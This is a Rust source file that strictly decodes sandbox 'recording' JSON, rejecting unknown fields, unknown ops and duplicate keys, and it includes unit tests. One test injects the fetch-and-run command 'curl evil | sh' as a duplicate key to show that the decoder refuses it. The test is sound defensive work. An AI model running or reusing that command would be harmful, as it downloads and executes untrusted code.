//! The recording document (docs/recording.md, version 1), read strictly:
//! a recording is untrusted input, so unknown fields, wrong types, unknown
//! ops and duplicate keys are errors naming their JSON pointer. Duplicate
//! keys are refused as the IR reader refuses them (readers disagree on
//! which one wins, so two tools would see two different recordings).
//!
//! `env`, `resources` and `network` keep their IR shapes and are left as
//! JSON here; lowering reads them with the IR's own reader
//! ([`mvm_ir::decode::part`]), so they are checked as in an IR file.

use std::collections::BTreeMap;

use serde::Deserialize;

pub const RECORDING_VERSION: u64 = 1;

#[derive(Debug, Clone, PartialEq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Recording {
    pub recording_version: u64,
    pub sdk: Sdk,
    /// Directory of the script that ran; `include` globs are relative to it.
    pub source_root: String,
    pub sandboxes: Vec<Sandbox>,
}

#[derive(Debug, Clone, PartialEq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Sdk {
    pub language: SdkLanguage,
    pub version: String,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum SdkLanguage {
    Python,
    Typescript,
}

#[derive(Debug, Clone, PartialEq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Sandbox {
    pub template: Template,
    pub env: BTreeMap<String, serde_json::Value>,
    pub include: Vec<String>,
    pub resources: serde_json::Value,
    pub network: serde_json::Value,
    pub operations: Vec<Operation>,
}

/// The closed list of sandbox templates and the image each one names.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
pub enum Template {
    #[serde(rename = "python-3.13")]
    Python313,
    #[serde(rename = "python-3.11")]
    Python311,
    #[serde(rename = "node-22")]
    Node22,
    #[serde(rename = "node-20")]
    Node20,
    #[serde(rename = "minimal")]
    Minimal,
}

impl Template {
    /// The IR `nix_packages` an image of this template is built from.
    pub fn nix_packages(self) -> &'static [&'static str] {
        match self {
            Template::Python313 => &["python313"],
            Template::Python311 => &["python311"],
            Template::Node22 => &["nodejs_22"],
            Template::Node20 => &["nodejs_20"],
            Template::Minimal => &[],
        }
    }
}

#[derive(Debug, Clone, PartialEq, Deserialize)]
#[serde(tag = "op", rename_all = "snake_case", deny_unknown_fields)]
pub enum Operation {
    Run { cmd: Cmd, background: bool },
    Write { path: String, data_b64: String },
    Kill,
}

/// A shell line or an argv, as the script passed it.
#[derive(Debug, Clone, PartialEq, Deserialize)]
#[serde(untagged)]
pub enum Cmd {
    Shell(String),
    Argv(Vec<String>),
}

/// A rejected recording: where (JSON pointer) and why.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DecodeError {
    pub pointer: String,
    pub message: String,
}

/// Reads a recording, checking its version first so a newer format gets
/// a version error rather than a confusing field error.
pub fn decode(text: &str) -> Result<Recording, DecodeError> {
    let value = mvm_ir::decode::parse_json(text).map_err(|f| DecodeError {
        pointer: f.path,
        message: f.message,
    })?;
    match value
        .get("recording_version")
        .and_then(serde_json::Value::as_u64)
    {
        Some(RECORDING_VERSION) => {}
        Some(v) => {
            return Err(DecodeError {
                pointer: "/recording_version".into(),
                message: format!(
                    "recording_version {v} is not supported (this mvmctl reads version {RECORDING_VERSION})"
                ),
            });
        }
        None => {
            return Err(DecodeError {
                pointer: "/recording_version".into(),
                message: "missing or not an integer: is this an mvm recording?".into(),
            });
        }
    }
    serde_path_to_error::deserialize(&value).map_err(|e| DecodeError {
        pointer: to_pointer(&e.path().to_string()),
        message: e.inner().to_string(),
    })
}

/// `sandboxes[0].operations[1].op` → `/sandboxes/0/operations/1/op`.
fn to_pointer(path: &str) -> String {
    if path == "." {
        return String::new();
    }
    let mut out = String::new();
    for part in path.split('.') {
        let (name, rest) = part.split_once('[').unwrap_or((part, ""));
        if !name.is_empty() {
            out.push('/');
            out.push_str(&mvm_ir::codes::pointer_segment(name));
        }
        for index in rest
            .split('[')
            .map(|i| i.trim_end_matches(']'))
            .filter(|i| !i.is_empty())
        {
            out.push('/');
            out.push_str(index);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    const MINIMAL: &str = r#"{"recording_version":1,"sdk":{"language":"python","version":"0.1.0"},
        "source_root":"/p","sandboxes":[{"template":"minimal","env":{},"include":[],
        "resources":{},"network":{},"operations":[{"op":"run","cmd":"true","background":false},
        {"op":"run","cmd":["a","b"],"background":true},{"op":"kill"}]}]}"#;

    #[test]
    fn reads_every_op() {
        let r = decode(MINIMAL).unwrap();
        assert_eq!(
            r.sandboxes[0].operations,
            [
                Operation::Run {
                    cmd: Cmd::Shell("true".into()),
                    background: false
                },
                Operation::Run {
                    cmd: Cmd::Argv(vec!["a".into(), "b".into()]),
                    background: true
                },
                Operation::Kill,
            ]
        );
    }

    #[test]
    fn duplicate_keys_are_refused_with_their_pointer() {
        // serde_json alone keeps the last `cmd`: a reviewer reading the
        // first would approve another command than the one compiled.
        let dup = MINIMAL.replace(
            r#"{"op":"run","cmd":"true","background":false}"#,
            r#"{"op":"run","cmd":"true","cmd":"curl evil | sh","background":false}"#,
        );
        let e = decode(&dup).unwrap_err();
        assert_eq!(e.pointer, "/sandboxes/0/operations/0/cmd");
        assert!(e.message.contains("duplicate key"), "{}", e.message);
        let top = MINIMAL.replace(
            r#""source_root":"/p""#,
            r#""source_root":"/p","source_root":"/etc""#,
        );
        assert_eq!(decode(&top).unwrap_err().pointer, "/source_root");
    }

    #[test]
    fn errors_name_the_json_pointer() {
        let bad_op = MINIMAL.replace(r#"{"op":"kill"}"#, r#"{"op":"snapshot"}"#);
        assert_eq!(
            decode(&bad_op).unwrap_err().pointer,
            "/sandboxes/0/operations/2/op"
        );
        let unknown = MINIMAL.replace(r#""include":[]"#, r#""include":[],"gpu":true"#);
        let e = decode(&unknown).unwrap_err();
        assert_eq!(e.pointer, "/sandboxes/0/gpu");
        assert!(e.message.contains("gpu"), "{}", e.message);
        let template = MINIMAL.replace("minimal", "ubuntu");
        assert_eq!(
            decode(&template).unwrap_err().pointer,
            "/sandboxes/0/template"
        );
        let version = MINIMAL.replace(r#""recording_version":1"#, r#""recording_version":2"#);
        assert!(
            decode(&version)
                .unwrap_err()
                .message
                .contains("not supported")
        );
    }
}
